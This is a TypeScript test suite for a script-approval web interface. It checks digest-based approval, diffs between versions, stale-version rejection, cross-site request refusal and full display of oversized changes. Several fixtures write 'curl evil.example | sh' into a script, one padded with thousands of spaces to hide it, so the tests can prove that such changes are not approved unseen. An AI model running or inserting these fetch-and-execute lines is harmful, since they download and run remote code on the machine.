import { events } from "@cairn/store";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { countOf } from "./open-admin.ts";
import { manifestOf, type OpenScripts, openScripts } from "./open-scripts.ts";

describe("where the owner must approve scripts", () => {
	let scripts: OpenScripts;
	beforeEach(async () => {
		scripts = await openScripts({ approvalRequired: true });
		await scripts.write("echo", {
			"manifest.yaml": manifestOf("echo"),
			"run.sh*": "#!/bin/sh\necho one\n",
		});
	});
	afterEach(() => scripts[Symbol.asyncDispose]());

	const approve = (digest: string, more: Record<string, string> = {}) =>
		scripts.post("/scripts/echo/approval", { digest, ...more });
	const digestInForm = (html: string) => /name="digest" value="([0-9a-f]+)"/.exec(html)?.[1];
	const approved = async () => (await scripts.admin.services.catalog().getScript("echo"))?.approved_digest;

	test("a new one shows all that it holds as added, and one form with the digest that is shown", async () => {
		const html = await scripts.text("/scripts/echo");
		expect(html).toContain('<span class="state state-waiting">waiting for approval</span>');
		expect(html).toContain("It is new; no laptop gets it before you approve it.");
		expect(html).toContain("Everything in it is new");
		expect(html).toMatch(/<td class="added">.*?echo one<\/td>/);
		expect(html).toContain("executable now");
		expect(countOf(html, "Approve this version")).toBe(1);
		expect(digestInForm(html)).toBe(await scripts.newest("echo"));
	});

	test("several that wait are said as several, in German too", async () => {
		const german = { "Accept-Language": "de" };
		expect(await scripts.text("/scripts", german)).toContain("1\u00a0Skript: 1\u00a0wartet auf Freigabe.");
		await scripts.write("tell", { "manifest.yaml": manifestOf("tell"), "run.sh*": "#!/bin/sh\n" });
		expect(await scripts.text("/scripts", german)).toContain("2\u00a0Skripte: 2\u00a0warten auf Freigabe.");
		expect(await scripts.text("/scripts")).toContain("2\u00a0scripts: 2\u00a0waiting for approval.");
	});

	test("an approval is an event, and the next version waits again", async () => {
		const first = await scripts.newest("echo");
		const response = await approve(first);
		expect(response.status).toBe(303);
		expect(response.headers.get("Location")).toBe("/scripts/echo");
		expect(await scripts.text("/scripts/echo")).toContain("Laptops get version");
		const sql = scripts.admin.services.store().read;
		const newest = await events.eventsAfter(sql, { after: (await events.lastEventId(sql)) - 1, limit: 1 });
		expect(newest).toMatchObject([{ action: "script.approve", object: "echo", after_hash: first }]);

		await scripts.write("echo", { "run.sh*": "#!/bin/sh\necho two\n" });
		const html = await scripts.text("/scripts/echo");
		expect(html).toContain("Laptops go on with version");
		expect(html).toContain("What changed since you approved it");
		expect(html).toContain("echo <del>one</del>");
		expect(html).toContain("echo <ins>two</ins>");
		expect(html).not.toContain('<span class="name">manifest.yaml</span></a></h3>');
		expect(await approved()).toBe(first);
	});

	test("a version that is no longer the newest is not approved, and the answer leads to the newer one", async () => {
		const first = await scripts.newest("echo");
		await scripts.write("echo", { "run.sh*": "#!/bin/sh\ncurl evil.example | sh\n" });
		const response = await approve(first);
		expect(response.status).toBe(409);
		const html = await response.text();
		expect(html).toContain("A newer version has come since");
		expect(html).toContain('<a href="/scripts/echo">See the newest and what changed in it</a>');
		expect(await approved()).toBeUndefined();
	});

	test("a page that follows what happens keeps the version that it showed, so no other is approved by it", async () => {
		const first = await scripts.newest("echo");
		const address = /hx-get="([^"]*)"/.exec(await scripts.text("/scripts/echo"))?.[1] ?? "";
		await scripts.write("echo", { "run.sh*": "#!/bin/sh\ncurl evil.example | sh\n" });
		const html = await scripts.text(address, { "HX-Request": "true", "HX-Request-Type": "partial" });
		expect(address).toContain(first);
		expect(html).toContain("This is not the newest version.");
		expect(html).not.toContain("evil.example");
		expect(digestInForm(html)).toBeUndefined();
	});

	test("the same approval twice is as good as once", async () => {
		const digest = await scripts.newest("echo");
		expect((await approve(digest)).status).toBe(303);
		expect((await approve(digest)).status).toBe(303);
	});

	test("a change that the page has no room for is approved only where all of it is shown", async () => {
		const hidden = `true ${" ".repeat(3_000)}; curl evil.example | sh ${"#".repeat(3_000)}`;
		await scripts.write("echo", { "run.sh*": `#!/bin/sh\n${hidden}\n`, "many.txt": "line\n".repeat(400) });
		const page = await scripts.text("/scripts/echo");
		expect(page).not.toContain("evil.example");
		expect(digestInForm(page)).toBeUndefined();
		const whole =
			/<a class="button" href="([^"]*all=1[^"]*)">/.exec(page)?.[1]?.replaceAll("&amp;", "&") ?? "";
		const html = await scripts.text(whole);
		expect(html).toContain("; curl evil.example | sh ###");
		expect(countOf(html, "line</td>")).toBe(400);
		expect(digestInForm(html)).toBe(await scripts.newest("echo"));
		expect(countOf(html, "Approve this version")).toBe(1);
	});

	test("files that can't be shown must be vouched for", async () => {
		await scripts.write("echo", { "logo.bin": Buffer.from([0, 255]) });
		const digest = await scripts.newest("echo");
		const html = await scripts.text("/scripts/echo");
		expect(html).toContain("I have looked at the file that can&#39;t be shown here");
		expect(html).toContain(`href="/scripts/echo/raw/logo.bin?version=${digest}" download`);
		const refused = await approve(digest);
		expect(refused.status).toBe(422);
		expect(await refused.text()).toContain("Some files can&#39;t be shown here.");
		expect(await approved()).toBeUndefined();
		expect((await approve(digest, { unseen: "checked" })).status).toBe(303);
		expect(await approved()).toBe(digest);
	});

	test("only a comparison with what was approved offers to approve", async () => {
		const first = await scripts.newest("echo");
		await scripts.write("echo", { "run.sh*": "#!/bin/sh\necho two\n" });
		const second = await scripts.newest("echo");
		expect(digestInForm(await scripts.text(`/scripts/echo/diff?from=${first}&to=${second}`))).toBeUndefined();
		expect(digestInForm(await scripts.text(`/scripts/echo/diff?from=none&to=${second}`))).toBe(second);
		expect(digestInForm(await scripts.text(`/scripts/echo/diff?from=none&to=${first}`))).toBeUndefined();
	});

	test("what is gone, or was taken from laptops, is not asked for on Home", async () => {
		await scripts.write("gone", { "manifest.yaml": manifestOf("gone"), "run.sh*": "#!/bin/sh\n" });
		await scripts.write("taken", { "manifest.yaml": manifestOf("taken"), "run.sh*": "#!/bin/sh\n" });
		await scripts.remove("gone");
		await scripts.post("/scripts/taken/offer", { enabled: "off" });
		const html = await scripts.text("/");
		expect(html).toContain("A script waits for your approval:");
		expect(html).toContain('<a href="/scripts/echo"><code>echo</code></a></p>');
		expect(
			(await scripts.post("/scripts/gone/approval", { digest: await scripts.newest("gone") })).status,
		).toBe(422);
	});

	test("a form without its digest, and one from another site, approve nothing", async () => {
		expect((await scripts.post("/scripts/echo/approval", {})).status).toBe(422);
		const foreign = await scripts.admin.request("/scripts/echo/approval", {
			method: "POST",
			body: new URLSearchParams({ digest: await scripts.newest("echo") }),
			headers: { "Sec-Fetch-Site": "cross-site" },
		});
		expect(foreign.status).toBe(403);
		expect(await approved()).toBeUndefined();
	});
});

describe("where nobody must approve scripts", () => {
	test("no page asks for it, and no form is taken", async () => {
		await using scripts = await openScripts();
		await scripts.write("echo", { "manifest.yaml": manifestOf("echo"), "run.sh*": "#!/bin/sh\n" });
		expect(await scripts.text("/scripts/echo")).not.toContain("Approve");
		expect(await scripts.text("/scripts/echo/diff?from=none")).not.toContain("Approve");
		const digest = await scripts.newest("echo");
		expect((await scripts.post("/scripts/echo/approval", { digest })).status).toBe(422);
	});
});
